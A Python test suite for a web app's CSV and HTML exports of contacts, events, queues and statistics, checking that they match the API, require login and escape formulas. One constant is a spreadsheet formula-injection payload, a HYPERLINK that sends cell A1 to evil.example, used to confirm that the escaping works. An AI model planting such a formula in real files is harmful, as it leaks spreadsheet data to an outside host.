"""People, events and numbers as CSV: what the API says, in a spreadsheet's words, for whoever is logged in."""

import asyncio
import json
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from pamosnik import csv_cells
from pamosnik._sqlite import Connection
from pamosnik.clock import VirtualClock
from pamosnik.config import Config
from pamosnik.daemon.downloads import FILES, ROWS_AT_ONCE
from pamosnik.ids import new_id
from pamosnik.security import tokens
from pamosnik.services import sheets
from pamosnik.store import accounts, api_tokens, connections, contacts, stats
from pamosnik.store.api_tokens import ApiToken
from pamosnik.store.database import open_database
from tests.daemon import events
from tests.daemon.machine import home_and_fake, running
from tests.daemon.site import Site, logged_in, open_site

pytestmark = pytest.mark.anyio
NOW = datetime(2026, 11, 30, 23, 30, tzinfo=UTC)
TOKEN = "pamo_of-this-test"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "prize")'
MORE = 2 * ROWS_AT_ONCE
"""So many people of each of two connections; of the first one, some more that really came."""


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Config:
    async def fill(folder: Path) -> Config:
        async with home_and_fake(folder) as (settings, fake), running(settings, fake) as shop:
            await shop.deliver(events.change(events.comment("901", "price", username="anna")))
            await shop.works()
            await shop.deliver(events.talk(events.message("902", FORMULA), events.message("901", "price")))
            await shop.works()
            await shop.writer.write(_many)
            return settings

    return asyncio.run(fill(tmp_path_factory.mktemp("downloads")))


def _many(conn: Connection) -> None:
    account, now = accounts.every(conn)[0].id, NOW - timedelta(days=1)
    conn.execute(
        "INSERT INTO connections (connection_id, account_id, ig_id, username, scopes, status, connected_at)"
        " VALUES ('K2', ?, '178414', 'tulip', '[]', 'active', 0)",
        (account,),
    )
    for connection in [one.id for one in connections.of_account(conn, account)]:
        for number in range(MORE):
            contacts.meet(
                conn,
                account_id=account,
                connection_id=connection,
                igsid=f"77{number:04}",
                username=f"user{number}",
                now=now,
            )
    for number in range(40):
        day = f"{NOW - timedelta(days=2 * number):%Y-%m-%d}"
        stats.count(conn, account, "K2", "size", stats.STARTED, day, media_id=f"m{number}", n=number + 1)
    (someone,) = contacts.find(conn, account, "902")
    conn.execute("INSERT INTO contact_fields VALUES (?, ?, 'size', '+1 and more', 0, 0)", (account, someone))
    token = ApiToken(new_id(now), account, "test", now, None)
    api_tokens.insert(conn, token, tokens.token_hash(TOKEN))


async def _rows(site: Site, name: str, words: str = "") -> list[dict[str, str]]:
    answer = await site.ask("GET", f"/{name}.csv{words}", {"cookie": await logged_in(site)})
    assert answer.status == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    # One in the morning in Warsaw, so the first of December.
    assert answer.headers["content-disposition"] == f'attachment; filename="{name}-2026-12-01.csv"'
    heading, *rows = csv_cells.read(answer.body)
    return [dict(zip(heading, row, strict=True)) for row in rows]


async def _told(site: Site, path: str) -> Any:
    answer = await site.ask("GET", f"/api/v1/{path}", {"authorization": f"Bearer {TOKEN}"})
    assert answer.status == 200, answer
    return json.loads(answer.body)


def _here(instant: str | None) -> str:
    if instant is None:
        return ""
    return datetime.fromisoformat(instant).astimezone(ZoneInfo("Europe/Warsaw")).isoformat()


async def test_people(settings: Config) -> None:
    async with open_site(settings, VirtualClock(NOW)) as site:
        rows = {row["id"]: row for row in await _rows(site, "people")}
        told = await _told(site, "contacts?limit=1000")
        told += await _told(site, f"contacts?limit=1000&before={_place(site, told[-1]['id'])}")
    assert len(told) == 2 * MORE + 2
    assert set(rows) == {person["id"] for person in told}
    for person in told:
        row = rows[person["id"]]
        assert row["username"] == (person["username"] or "")
        assert row["igsid"] == person["igsid"]
        assert row["connection"] == person["connection"]
        assert row["fields.size"] == person["fields"].get("size", "")
        assert row["window_open_until"] == _here(person["window_open_until"])
        assert row["opted_out"] == str(person["opted_out"]).lower()
    assert "+1 and more" in {row["fields.size"] for row in rows.values()}


def _place(site: Site, contact_id: str) -> str:
    seen = contacts.last_seen(site.reader.connection, contact_id)
    assert seen is not None
    return f"{int(seen.timestamp() * 1000)}-{contact_id}"


async def test_events(settings: Config) -> None:
    async with open_site(settings, VirtualClock(NOW)) as site:
        rows = await _rows(site, "events")
        told = await _told(site, "events")
        raw = await site.ask("GET", "/events.csv", {"cookie": await logged_in(site)})
    assert [row["id"] for row in rows] == [event["id"] for event in told]
    for row, event in zip(rows, told, strict=True):
        assert row["at"] == _here(event["at"])
        assert row["from.igsid"] == event["from"]["igsid"]
        for name in ("text", "verdict", "flow", "reason", "connection"):
            assert row[name] == (event[name] or ""), name
    assert FORMULA in {row["text"] for row in rows}
    assert b",\"'=HYPERLINK(" in raw.body
    assert b',"=' not in raw.body


@pytest.mark.parametrize(
    ("words", "of_them"),
    [
        ("?kind=messages", lambda event: event["kind"] == "message"),
        ("?verdict=answered", lambda event: event["verdict"] in ("started", "resumed")),
        ("?flow=price", lambda event: event["flow"] == "price"),
        ("?q=HYPERLINK", lambda event: event["text"] == FORMULA),
        ("?connection=tulip", lambda event: event["connection"] == "tulip"),
        ("?day=2001-01-01", lambda _: False),
        ("?day=never", lambda _: False),
    ],
)
async def test_events_that_the_page_shows(
    settings: Config, words: str, of_them: Callable[[Mapping[str, Any]], bool]
) -> None:
    async with open_site(settings, VirtualClock(NOW)) as site:
        rows = await _rows(site, "events", words)
        told = [event["id"] for event in await _told(site, "events") if of_them(event)]
        page = await site.ask("GET", f"/events{words}", {"cookie": await logged_in(site)})
    assert [row["id"] for row in rows] == told
    assert f'"/events.csv{words}">These as CSV'.encode() in page.body


async def test_people_that_the_page_shows(settings: Config) -> None:
    async with open_site(settings, VirtualClock(NOW)) as site:
        await site.writer.write(_some_are_special)
        for words, igsid in (("?tag=vip", "901"), ("?which=out", "902")):
            rows = await _rows(site, "people", words)
            assert [row["igsid"] for row in rows] == [igsid]
            page = await site.ask("GET", f"/people{words}", {"cookie": await logged_in(site)})
            assert f'"/people.csv{words}">These as CSV'.encode() in page.body
        opened = await _rows(site, "people", "?which=open")
        told = await _told(site, "contacts?limit=1000")
    assert {row["id"] for row in opened} == {
        one["id"] for one in told if (one["window_open_until"] or "") > f"{NOW:%Y-%m-%dT%H:%M:%SZ}"
    }


def _some_are_special(conn: Connection) -> None:
    account = accounts.every(conn)[0].id
    ((someone,), (other,)) = (contacts.find(conn, account, igsid) for igsid in ("901", "902"))
    anna = contacts.load(conn, someone)
    assert anna is not None
    contacts.add_tag(conn, anna, "vip", NOW)
    conn.execute("UPDATE contacts SET opted_out_at=1 WHERE contact_id=?", (other,))


async def test_runs_and_the_queue(settings: Config) -> None:
    async with open_site(settings, VirtualClock(NOW)) as site:
        runs, items = await _rows(site, "runs"), await _rows(site, "queue", "?show=all")
        sent, waiting = await _rows(site, "queue", "?show=sent"), await _rows(site, "queue")
        told_runs, told = await _told(site, "runs"), await _told(site, "queue")
    assert [row["id"] for row in runs] == [run["id"] for run in told_runs]
    assert len(runs) >= 1
    assert [row["started_at"] for row in runs] == [_here(run["started_at"]) for run in told_runs]
    assert [row["contact.igsid"] for row in runs] == [run["contact"]["igsid"] for run in told_runs]
    assert [row["id"] for row in items] == [item["id"] for item in told]
    assert [row["id"] for row in sent] == [item["id"] for item in told if item["status"] == "sent"]
    ended = ("sent", "failed", "expired", "cancelled")
    assert [row["id"] for row in waiting] == [one["id"] for one in told if one["status"] not in ended]
    for row, item in zip(items, told, strict=True):
        assert row["deadline"] == _here(item["deadline"])
        assert row["to.igsid"] == item["to"]["igsid"]
        assert row["message_id"] == (item["message_id"] or "")


async def test_steps_and_numbers_of_some_days(settings: Config) -> None:
    async with open_site(settings, VirtualClock(NOW)) as site:
        steps, posts = await _rows(site, "steps", "?flow=price"), await _rows(site, "posts", "?since=7d")
        told = (await _told(site, "stats?by=step&flow=price"))["steps"]
        told_posts = (await _told(site, "stats?by=post&since=7d"))["posts"]
        everything = await _rows(site, "posts")
        refused = await site.ask("GET", "/posts.csv?since=x", {"cookie": await logged_in(site)})
        page = await site.ask("GET", "/posts?days=7", {"cookie": await logged_in(site)})
    assert steps == [{name: str(value) for name, value in step.items()} for step in told]
    assert len(steps) >= 1
    assert [row["post"] for row in posts] == [post["post"] for post in told_posts]
    assert 0 < len(posts) < len(everything)
    assert refused.status == 404
    # Half past midnight in Warsaw: the seventh of the days that end with the first of December.
    assert b'"/posts.csv?since=2026-11-25">Posts</a>' in page.body


async def test_numbers(settings: Config) -> None:
    async with open_site(settings, VirtualClock(NOW)) as site:
        rows = await _rows(site, "stats")
        told = (await _told(site, "stats"))["flows"]
    assert len(told) >= 2
    for row, flow in zip(rows, told, strict=True):
        for name in ("flow", "connection", "started", "completed", "sent", "failed"):
            assert row[name] == str(flow[name]), name


async def test_days_and_posts(settings: Config) -> None:
    async with open_site(settings, VirtualClock(NOW)) as site:
        days, posts = await _rows(site, "days"), await _rows(site, "posts")
        first, last = days[-1]["day"], days[0]["day"]
        told = (await _told(site, f"stats?by=day&since={first}&until={last}"))["days"]
        told_posts = (await _told(site, "stats?by=post"))["posts"]
    assert len(days) > 70, "days on which nothing happened are there, too"
    assert days == [{name: str(value) for name, value in day.items()} for day in reversed(told)]
    assert [row["post"] for row in posts] == [post["post"] for post in told_posts]
    for row, post in zip(posts, told_posts, strict=True):
        for name in ("comments", "matched", "started", "completed", "connection"):
            assert row[name] == str(post[name]), name


async def test_a_month_as_a_page_for_a_client(settings: Config) -> None:
    async with open_site(settings, VirtualClock(NOW)) as site:
        headers = {"cookie": await logged_in(site)}
        whole = await site.ask("GET", "/month.html?month=2026-11", headers)
        one = await site.ask("GET", "/month.html?month=2026-11&connection=tulip", headers)
        assert whole.headers["content-disposition"] == 'attachment; filename="2026-11.html"'
        assert one.headers["content-disposition"] == 'attachment; filename="2026-11-tulip.html"'
        assert b"@shop, @tulip" in whole.body
        assert b"@shop" not in one.body
        # One in the morning of the first of December in Warsaw.
        assert b"1 December 2026, so far" in (await site.ask("GET", "/month.html", headers)).body
        for asked in ("month=2027-01", "month=x", "month=", "month=2026-11&connection=nobody"):
            assert (await site.ask("GET", f"/month.html?{asked}", headers)).status == 404
        home = (await site.ask("GET", "/", headers)).body.decode()
        assert '<option value="2026-11">November 2026</option>' in home
        assert "<option>tulip</option>" in home
        assert (await site.ask("GET", "/month.html")).headers["location"] == "/login"


@pytest.mark.parametrize("name", [*FILES, "queue"])
async def test_only_whoever_is_logged_in_gets_them(settings: Config, name: str) -> None:
    async with open_site(settings, VirtualClock(NOW)) as site:
        for headers in ({}, {"cookie": "pamosnik_session=x"}, {"authorization": f"Bearer {TOKEN}"}):
            answer = await site.ask("GET", f"/{name}.csv", headers)
            assert (answer.status, answer.headers["location"], answer.body) == (303, "/login", b"")
        asked = await site.ask("HEAD", f"/{name}.csv", {"cookie": await logged_in(site)})
        assert (asked.status, asked.body) == (200, b"")
        assert f'filename="{name}-' in asked.headers["content-disposition"]


def test_an_account_without_anything_has_its_headings(tmp_path: Path) -> None:
    path = tmp_path / "pamosnik.db"
    with open_database(path, migrate=True) as database:
        nobody = accounts.Account("A", "Rosa", "rosa@shop.example", "Europe/Warsaw", NOW)
        for sheet in FILES.values():
            columns = sheet.columns(database.connection, nobody)
            assert columns[0] in ("username", "at", "flow", "day", "post", "started_at")
            assert sheet.part(database.connection, nobody, columns, None, 5).rows == []


@pytest.mark.parametrize("name", ["people", "events", "stats", "days", "posts"])
def test_parts_of_any_length_make_the_whole(settings: Config, name: str) -> None:
    sheet = FILES[name]
    with open_database(settings.database) as database:
        conn = database.connection
        (account,) = accounts.every(conn)
        columns = sheet.columns(conn, account)

        def rows(at_once: int) -> list[sheets.Row]:
            found: list[sheets.Row] = []
            part = sheet.part(conn, account, columns, None, at_once)
            while part.last is not None and len(found) < 10_000:
                found += part.rows
                part = sheet.part(conn, account, columns, part.last, at_once)
            return [*found, *part.rows]

        whole = rows(10_000)
        assert len(whole) >= 2
        assert rows(1) == rows(2) == rows(len(whole)) == whole
